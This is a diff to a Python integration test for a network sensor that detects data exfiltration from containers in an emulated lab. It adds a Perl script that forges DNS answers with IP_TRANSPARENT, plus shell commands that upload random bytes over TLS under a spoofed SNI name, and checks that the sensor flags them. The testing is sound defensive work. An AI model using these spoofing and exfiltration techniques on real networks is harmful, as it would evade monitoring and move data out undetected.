@@ -14,7 +14,7 @@ from pathlib import Path
 from typing import Any
 
 from emulation.lab import SECOND_IP, VAULT_IP, wait_until
-from emulation.scenarios import S_CLIENT
+from emulation.scenarios import S_CLIENT, put
 
 from .harness import SINK_IP, SLUICE, Docker, SensorProc, SinkNet, action, cid_of, run_container, window_closed_after
 
@@ -22,24 +22,66 @@ SVC = "api.svc-names.test"
 NEW = "upload.share-files.test"
 
 
-def resolve(name: str) -> str:
+def resolve(name: str, server: str = SINK_IP) -> str:
     """busybox sh: the last address nslookup prints for `name`, asked of
     the sink's DNS server (a real DNS response into the container)."""
-    return f"ip=$(nslookup {name} {SINK_IP} | tail -n +3 | grep -o '198[.]18[.][0-9.]*' | tail -1); echo ip=$ip; "
+    return f"ip=$(nslookup {name} {server} | tail -n +3 | grep -o '198[.]18[.][0-9.]*' | tail -1); echo ip=$ip; "
 
 
-def tls_send(name: str, path: str) -> str:
-    """busybox sh: the file at path, over TLS to name (resolved by the sink)."""
+# A container answering its own query: a socket bound to port 53 on the
+# address of the resolver the workload learned (IP_TRANSPARENT: Docker
+# grants CAP_NET_RAW) sends a DNS response that gives the learned name the
+# attacker's address, to a socket of the same container over loopback.
+FORGE_PL = r"""
+use Socket;
+my ($name, $addr, $from) = @ARGV;
+socket(my $r, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
+bind($r, pack_sockaddr_in(5300, inet_aton("127.0.0.1"))) or die "bind 5300: $!";
+socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
+setsockopt($s, 0, 19, 1) or die "IP_TRANSPARENT: $!";
+bind($s, pack_sockaddr_in(53, inet_aton($from))) or die "bind $from:53: $!";
+my $q = join("", map { chr(length $_) . $_ } split /\./, $name) . chr(0);
+my $m = pack("nnnnnn", 0x1234, 0x8180, 1, 1, 0, 0) . $q . pack("nn", 1, 1)
+  . pack("nnnNn", 0xc00c, 1, 1, 300, 4) . inet_aton($addr);
+send($s, $m, 0, pack_sockaddr_in(5300, inet_aton("127.0.0.1"))) or die "send: $!";
+recv($r, my $got, 2048, 0);
+print "forged answer received: ", length($got), " bytes\n";
+"""
+
+
+def tls_send(name: str, path: str, server: str = SINK_IP) -> str:
+    """busybox sh: the file at path, over TLS to name (resolved by server)."""
     return (
-        resolve(name)
+        resolve(name, server)
         # stdin held open a moment: s_client stops at EOF, unsent data with it
         + f"(cat {path}; sleep 2) | {S_CLIENT} -connect $ip:443 -servername {name} "
         + ">/dev/null 2>&1; "
     )
 
 
-def tls_upload(name: str, nbytes: int) -> str:
-    return f"head -c {nbytes} /dev/urandom > /tmp/up; " + tls_send(name, "/tmp/up")
+def tls_upload(name: str, nbytes: int, server: str = SINK_IP) -> str:
+    return f"head -c {nbytes} /dev/urandom > /tmp/up; " + tls_send(name, "/tmp/up", server)
+
+
+def claimed_upload(name: str, ip: str, nbytes: int = 1_500_000) -> str:
+    """busybox sh: random bytes over TLS to ip, `name` in the SNI."""
+    return (
+        f"head -c {nbytes} /dev/urandom > /tmp/up; (cat /tmp/up; sleep 2) | "
+        f"{S_CLIENT} -connect {ip}:443 -servername {name} >/dev/null 2>&1; "
+    )
+
+
+def _exf004(s: SensorProc, cid: str, what: str) -> dict[str, Any]:
+    return s.wait_for(
+        lambda x: x["event"]["kind"] == "alert" and cid_of(x) == cid and x["rule"]["id"] == "SL-EXF-004",
+        timeout=20,
+        what=f"SL-EXF-004 for {what}",
+    )
+
+
+def _names_count(s: SensorProc, name: str) -> int:
+    st = json.loads(s.status("--json").stdout)
+    return int(st["counters"][f"names_{name}"])
 
 
 def _flows(sensor: SensorProc, cid: str) -> list[dict[str, Any]]:
@@ -160,7 +202,10 @@ def test_baseline_by_name_moves_silently_and_flags_new_name(base: Path, docker: 
         d,
         docker.sock,
         name="names-detect",
-        extra_config="[detection]\nmin_baseline_windows = 1\n[rules.SL-EXF-004]\nmin_bytes = 65536\n",
+        # each phase's container alerts for itself: no suppression across
+        # phases that send to the same address
+        extra_config="[detection]\nmin_baseline_windows = 1\nsuppress_seconds = 0\n"
+        "[rules.SL-EXF-004]\nmin_bytes = 65536\n",
     )
     s.start(args=("--baseline", str(bl)))
     try:
@@ -185,20 +230,33 @@ def test_baseline_by_name_moves_silently_and_flags_new_name(base: Path, docker: 
 
         # the learned name claimed in the SNI of an upload to an address it
         # never resolved to: the claim does not make the address known
-        claim = (
-            f"head -c 1500000 /dev/urandom > /tmp/up; (cat /tmp/up; sleep 2) | "
-            f"{S_CLIENT} -connect {VAULT_IP}:443 -servername {SVC} >/dev/null 2>&1"
-        )
-        claimed = run_container(docker, net, claim, timeout=90)
-        c = s.wait_for(
-            lambda x: x["event"]["kind"] == "alert" and cid_of(x) == claimed and x["rule"]["id"] == "SL-EXF-004",
-            timeout=20,
-            what="SL-EXF-004 for a learned name claimed in the SNI of a new address",
-        )
+        claimed = run_container(docker, net, claimed_upload(SVC, VAULT_IP), timeout=90)
+        c = _exf004(s, claimed, "a learned name claimed in the SNI of a new address")
         assert c["destination"]["ip"] == VAULT_IP and c["destination"]["domain"] == SVC
         assert c["tls"]["client"]["server_name"] == SVC and c["sluice"]["name_vouched"] is False
         claimed_flows = [x for x in _flows(s, claimed) if x["destination"].get("domain")]
         assert claimed_flows and all(x["sluice"]["flow"]["name_vouched"] is False for x in claimed_flows)
+
+        # the learned name asked of a resolver the workload never used (the
+        # sink's DNS server on another address): a real answer, not the
+        # workload's; the name is judged as a claim
+        net.set_names({SVC: [VAULT_IP]})
+        rogue = run_container(docker, net, tls_upload(SVC, 1_500_000, server=VAULT_IP), timeout=90)
+        r = _exf004(s, rogue, "a learned name resolved by a resolver the workload never asked")
+        assert r["destination"]["ip"] == VAULT_IP and r["destination"]["domain"] == SVC
+        assert r["sluice"]["name_vouched"] is False and r["sluice"]["name_resolver"] == VAULT_IP
+        rogue_flows = [x for x in _flows(s, rogue) if x["destination"]["port"] == 443]
+        assert rogue_flows and all(x["sluice"]["flow"]["name_resolver"] == VAULT_IP for x in rogue_flows)
+
+        # the container answers its own query, from the learned resolver's
+        # address, port 53: its answers vouch for nothing from the bind on
+        before = _names_count(s, "dns_answers_unvouched")
+        forge = put("/tmp/f.pl", FORGE_PL) + f"; perl /tmp/f.pl {SVC} {VAULT_IP} {SINK_IP}; "
+        forged = run_container(docker, net, forge + claimed_upload(SVC, VAULT_IP), timeout=90)
+        f = _exf004(s, forged, "a learned name in a DNS answer the container forged")
+        assert f["destination"]["ip"] == VAULT_IP and f["sluice"]["name_vouched"] is False
+        assert "name_resolver" not in f["sluice"]
+        assert _names_count(s, "dns_answers_unvouched") > before  # the forged answer arrived, unvouched
 
         # a new name on the known address
         net.set_names({NEW: [SINK_IP]})
